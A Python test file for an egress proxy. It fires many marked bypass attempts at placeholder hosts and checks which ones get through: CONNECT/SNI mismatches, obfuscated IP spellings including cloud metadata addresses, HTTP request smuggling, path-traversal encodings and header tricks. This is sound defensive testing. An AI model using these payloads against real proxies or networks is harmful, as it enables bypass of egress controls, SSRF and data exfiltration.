# Abuse of the egress proxy, over its unix socket. What must not arrive carries a mark, and what arrived anywhere is asked
# for afterwards. The world `careless` is the same network behind a proxy that decides nothing. The rules of the other:
# allowed.example.com, paths.example.com/ok/, and names that resolve to places where nobody may go.
def hello(server_name, ech=None, record=None):
    """A ClientHello of TLS 1.2 and 1.3, with nothing in it that is not needed."""
    extensions = b''
    for name in ([server_name] if isinstance(server_name, (str, bytes)) else server_name or []):
        name = as_bytes(name)
        entry = b'\0' + struct.pack('!H', len(name)) + name
        extensions += struct.pack('!HHH', 0, len(entry) + 2, len(entry)) + entry
    extensions += bytes.fromhex('000a00040002001d' '002b0003020304')
    if ech is not None:
        payload = b'\0\0\1\0\1\7\0\4abcd' + struct.pack('!H', len(ech)) + ech
        extensions += struct.pack('!HH', 0xFE0D, len(payload)) + payload
    body = b'\3\3' + os.urandom(32) + b'\0' + b'\0\4\x13\1\xc0\x2f' + b'\1\0' + struct.pack('!H', len(extensions)) + extensions
    message = b'\1' + struct.pack('!I', len(body))[1:] + body
    if record is None:
        return b'\x16\3\1' + struct.pack('!H', len(message)) + message
    return b''.join(b'\x16\3\1' + struct.pack('!H', len(piece)) + piece for piece in (message[at:at + record] for at in range(0, len(message), record)))


def connect(target, host=None):
    return f'CONNECT {target} HTTP/1.1\r\nHost: {host or target}{END}'


def get(url, host, more='', method='GET'):
    return f'{method} {url} HTTP/1.1\r\nHost: {host}\r\n{more}\r\n'


@attack('Hosts that are on no list', 'careless')
def other_hosts():
    return marked([
        ('tunnel', lambda m: (connect(f'{m}.example.org:443'), hello(f'{m}.example.org'))),
        ('http', lambda m: get(f'http://forbidden.example.com/{m}', 'forbidden.example.com')),
        ('below an allowed name', lambda m: get(f'http://x.allowed.example.com/{m}', 'x.allowed.example.com')),
        ('above an allowed name', lambda m: get(f'http://example.com/{m}', 'example.com')),
        ('with an allowed name before it', lambda m: get(f'http://allowed.example.com.evil.example/{m}', 'allowed.example.com.evil.example')),
        ('with an allowed name behind it', lambda m: get(f'http://evilallowed.example.com/{m}', 'evilallowed.example.com')),
        ('no mark of its own in the name', lambda m: (connect('forbidden.example.com:443'), hello(f'{m}.example.com'))),
    ])


@attack('Another host in TLS than in CONNECT', 'careless')
def other_sni():
    to = connect('allowed.example.com:443')
    return marked([
        ('another name', lambda m: (to, hello(f'{m}.example.org'))),
        ('two names, the second another', lambda m: (to, hello(['allowed.example.com', f'{m}.example.org']))),
        ('two names, the first another', lambda m: (to, hello([f'{m}.example.org', 'allowed.example.com']))),
        ('a name with NUL', lambda m: (to, hello(f'allowed.example.com\0.{m}.example.org'))),
        ('in two records, cut before the name', lambda m: (to, hello(f'{m}.example.org', record=50))),
        ('in records of one byte', lambda m: (to, hello(f'x.example.org', record=1) + as_bytes(m))),
        ('sent along with CONNECT', lambda m: as_bytes(to) + hello(f'{m}.example.org')),
        ('below the allowed name', lambda m: (to, hello(f'{m}.allowed.example.com'))),
    ])


@attack('TLS without a name, or with a hidden one', 'careless')
def no_sni():
    to = connect('allowed.example.com:443')
    return marked([
        ('no name', lambda m: (to, hello(None) + as_bytes(m))),
        ('encrypted (ECH)', lambda m: (to, hello('allowed.example.com', ech=as_bytes(m)))),
        ('an address', lambda m: (to, hello('203.0.113.9') + as_bytes(m))),
    ])


@attack('What is no TLS in a tunnel', 'careless')
def no_tls():
    to = connect('allowed.example.com:443')
    return marked([
        ('HTTP', lambda m: (to, get(f'/{m}', 'forbidden.example.com'))),
        ('SSH', lambda m: (to, f'SSH-2.0-{m}\r\n')),
        ('bytes', lambda m: (to, m)),
        ('another kind of record', lambda m: (to, b'\x17\3\3\0\x40' + as_bytes(m) * 2)),
        ('SSL 2', lambda m: (to, b'\x80\x2e\1\3\1\0\x15\0\0\0\x10' + as_bytes(m) * 2)),
        ('sent along with CONNECT', lambda m: to + m),
    ])


@attack('Addresses instead of names, in every spelling', 'careless')
def literals():
    spellings = ['203.0.113.9', '127.0.0.1', '169.254.169.254', '172.17.0.1', '2130706433', '0x7f000001', '017700000001', '127.1', '0x7f.1', '0177.0.0.1', '10.1', '[::1]', '[::ffff:169.254.169.254]', '[fd00:ec2::254]', '[2001:db8::1]', '0', '203.0.113.9.', '0.0.0.0', '[::]']
    tries = []
    for text in spellings:
        tries.append((f'tunnel to {text}', lambda m, text=text: (connect(f'{text}:443'), hello(f'{m}.example.com'))))
        tries.append((f'http to {text}', lambda m, text=text: get(f'http://{text}/{m}', text)))
    return marked(tries)


@attack('Names that stand for this machine, its networks and its cloud', 'careless')
def private_names():
    names = ['localhost', 'loop.example.com', 'loop6.example.com', 'metadata.example.com', 'task-metadata.example.com', 'metadata6.example.com', 'bridge.example.com', 'lan.example.com', 'mapped.example.com', 'nat64.example.com', 'sixtofour.example.com', 'mixed.example.com', 'zero.example.com', 'cgnat.example.com', 'multicast-free.example.com']
    tries = []
    for name in names:
        tries.append((f'tunnel to {name}', lambda m, name=name: (connect(f'{name}:443'), hello(name) + as_bytes(m))))
        tries.append((f'http to {name}', lambda m, name=name: get(f'http://{name}/{m}', name)))
    return marked(tries)


@attack('Other ports of an allowed host', 'careless')
def ports():
    tries = []
    for port in (22, 25, 80, 2375, 3128, 6379, 8443):
        tries.append((f'tunnel to port {port}', lambda m, port=port: (connect(f'allowed.example.com:{port}'), hello('allowed.example.com') + as_bytes(m))))
    for port in (22, 25, 443, 6379, 8080):
        tries.append((f'http to port {port}', lambda m, port=port: get(f'http://allowed.example.com:{port}/{m}', f'allowed.example.com:{port}')))
    return marked(tries)


@attack('Odd bytes in a host', 'careless')
def odd_hosts():
    target = 'forbidden.example.com'
    tries = []
    for name, text in (
        ('user information', f'allowed.example.com@{target}'),
        ('user and password', f'allowed.example.com:80@{target}'),
        ('NUL', f'{target}\0'),
        ('a dot at the end', f'{target}.'),
        ('capitals', target.upper()),
        ('a tab', f'{target}\t'),
        ('a backslash', f'{target}\\allowed.example.com'.split('\\')[0]),
        ('a port of zeros', f'{target}:00080'),
    ):
        tries.append((f'{name}, http', lambda m, text=text: get(f'http://{text}/{m}', text)))
    tries += [
        ('a space in the host of CONNECT', lambda m: (f'CONNECT {target}:443 allowed.example.com:443 HTTP/1.1{END}', hello(f'{m}.example.com'))),
        ('LF instead of CR LF', lambda m: f'GET http://{target}/{m} HTTP/1.1\nHost: {target}\n\n'),
        ('a header in the URL', lambda m: f'GET http://{target}/{m}\r\nHost: allowed.example.com HTTP/1.1\r\nHost: allowed.example.com{END}'),
    ]
    return marked(tries)


@attack('An allowed host that is written in another way', 'careless')
def allowed_otherwise():
    # They would all reach the allowed host, or another one, depending on who reads: so nobody may.
    return marked([
        ('a dot at the end', lambda m: get(f'http://allowed.example.com./{m}', 'allowed.example.com.')),
        ('user information', lambda m: get(f'http://forbidden.example.com@allowed.example.com/{m}', 'allowed.example.com')),
    ])


@attack('A Host header that names another host than the URL', 'careless')
def other_host_header():
    url = 'http://allowed.example.com/'
    return marked([
        ('another one', lambda m: get(url, f'{m}.example.org')),
        ('two of them', lambda m: get(url, f'allowed.example.com\r\nHost: {m}.example.org')),
        ('two, the other first', lambda m: get(url, f'{m}.example.org\r\nHost: allowed.example.com')),
        ('folded', lambda m: get(url, f'allowed.example.com\r\n {m}.example.org')),
        ('with a space before the colon', lambda m: f'GET {url} HTTP/1.1\r\nHost: allowed.example.com\r\nHost : {m}.example.org{END}'),
        ('no URL at all', lambda m: get(f'/{m}', 'forbidden.example.com')),
    ])


@attack('A second request hidden in the first (smuggling)', 'careless')
def smuggling():
    def inner(m):
        return f'POST /{m} HTTP/1.1\r\nHost: forbidden.example.com\r\nContent-Length: 0{END}'

    def post(more, body):
        return f'POST http://posts.example.com/ HTTP/1.1\r\nHost: posts.example.com\r\n{more}\r\n\r\n{body}'

    def both(m):
        text = '0\r\n\r\n' + inner(m)
        return post(f'Content-Length: {len(text)}\r\nTransfer-Encoding: chunked', text)

    return marked([
        ('pipelined', lambda m: get('http://allowed.example.com/', 'allowed.example.com') + inner(m)),
        ('a body of GET', lambda m: get('http://allowed.example.com/', 'allowed.example.com', f'Content-Length: {len(inner(m))}\r\n') + inner(m)),
        ('both lengths', both),
        ('two lengths', lambda m: post(f'Content-Length: 0\r\nContent-Length: {len(inner(m))}', inner(m))),
        ('a signed length', lambda m: post('Content-Length: +0', inner(m))),
        ('a length list', lambda m: post(f'Content-Length: 0, {len(inner(m))}', inner(m))),
        ('after an empty body', lambda m: post('Content-Length: 0', inner(m))),
        ('after the last chunk', lambda m: post('Transfer-Encoding: chunked', '0\r\n\r\n' + inner(m))),
        ('an odd coding', lambda m: post('Transfer-Encoding: chunked, identity', '0\r\n\r\n' + inner(m))),
        ('a coding with a tab', lambda m: post('Transfer-Encoding:\tchunked\x0b', '0\r\n\r\n' + inner(m))),
        ('a folded coding', lambda m: post('Transfer-Encoding:\r\n chunked', '0\r\n\r\n' + inner(m))),
        ('a chunk with an odd size', lambda m: post('Transfer-Encoding: chunked', '0x0\r\n\r\n' + inner(m))),
        ('a chunk of negative size', lambda m: post('Transfer-Encoding: chunked', '-1\r\n\r\n' + inner(m))),
        ('a chunk extension with LF', lambda m: post('Transfer-Encoding: chunked', f'5;a\n{m}\r\nhello\r\n0\r\n\r\n')),
        ('a trailer', lambda m: post('Transfer-Encoding: chunked', f'0\r\nHost: {m}.example.org\r\n\r\n')),
        ('HTTP/1.0 with a coding', lambda m: f'POST http://posts.example.com/ HTTP/1.0\r\nHost: posts.example.com\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n' + inner(m)),
        ('an upgrade', lambda m: get('http://allowed.example.com/', 'allowed.example.com', f'Connection: Upgrade\r\nUpgrade: {m}\r\n')),
        ('HTTP/2 in the clear', lambda m: f'PRI * HTTP/2.0\r\nHost: {m}.example.org\r\n\r\nSM\r\n\r\n'),
    ])


@attack('Methods that a rule does not name', 'careless')
def methods():
    return marked([(method, lambda m, method=method: get(f'http://allowed.example.com/{m}', 'allowed.example.com', 'Content-Length: 0\r\n', method)) for method in ('POST', 'PUT', 'DELETE', 'PATCH', 'OPTIONS', 'TRACE', 'get', 'Get', 'PROPFIND', 'X-POST')])


@attack('Methods that are told in a header', 'careless')
def overrides():
    return marked([('a tunnel in plain HTTP', lambda m: get(f'http://allowed.example.com:443/{m}', 'allowed.example.com:443', 'X-HTTP-Method-Override: POST\r\n'))])


@attack('Paths beside the one that a rule names', 'careless')
def paths():
    host = 'paths.example.com'
    return marked([(path, lambda m, path=path: get(f'http://{host}{path.format(m)}', host)) for path in (
        '/{}', '/ok/../{}', '/ok/%2e%2e/{}', '/ok/%2E%2e/{}', '/ok/.%2e/{}', '/ok/..%2f{}', '/ok/%252e%252e/{}', '/ok/..;/{}', '//{}/ok/', '//ok/../{}', '/OK/{}', '/okay/{}', '/ok%2f..%2f{}', '/ok/..\\{}', '/ok/%5c..%5c{}', '/./{}', '?/ok/{}', '/ok/%00/../{}', '/%6fk/../{}', '/ok/x/../../{}')])


@attack('A redirect from an allowed host to another one', 'careless')
def redirect():
    # The place that it names is the mark, turned round.
    mark = secrets.token_hex(8)
    send(get(f'http://allowed.example.com/redirect/{mark}', 'allowed.example.com'), wait=1)
    return 'it was followed' if arrived(['mark' + mark[::-1]]) & {'mark' + mark[::-1]} else None


@attack('Schemes besides http', 'careless')
def schemes():
    return marked([(scheme, lambda m, scheme=scheme: get(f'{scheme}://allowed.example.com/{m}', 'allowed.example.com')) for scheme in ('https', 'ftp', 'ws', 'gopher', 'file', 'unix', 'HTTPS')])


@attack('Headers that speak to a proxy or for one', 'careless')
def proxy_headers():
    return marked([(name, lambda m, name=name: get('http://allowed.example.com/', 'allowed.example.com', f'{name}: {m}\r\n')) for name in ('Proxy-Authorization', 'Proxy-Connection', 'Keep-Alive', 'TE', 'Trailer', 'Upgrade')])


@attack('Heads that have no end', 'careless')
def endless():
    return marked([
        ('a megabyte of headers', lambda m: get('http://allowed.example.com/', 'allowed.example.com', ''.join(f'X-{at}: {"y" * 1000}\r\n' for at in range(1000)) + f'X-Mark: {m}\r\n')),
        ('a URL of a megabyte', lambda m: get('http://allowed.example.com/' + 'x' * (1 << 20) + m, 'allowed.example.com')),
        ('a thousand headers', lambda m: get('http://allowed.example.com/', 'allowed.example.com', 'A: b\r\n' * 1000 + f'X-Mark: {m}\r\n')),
    ])


@attack('The model, through the proxy', 'careless')
def model_through_proxy():
    return marked([
        ('http', lambda m: get(f'http://model.example.com:8000/v1/messages?{m}', 'model.example.com:8000', 'Content-Length: 2\r\n', 'POST') + '{}'),
        ('tunnel', lambda m: (connect('model.example.com:8000'), get(f'/{m}', 'model.example.com'))),
    ])
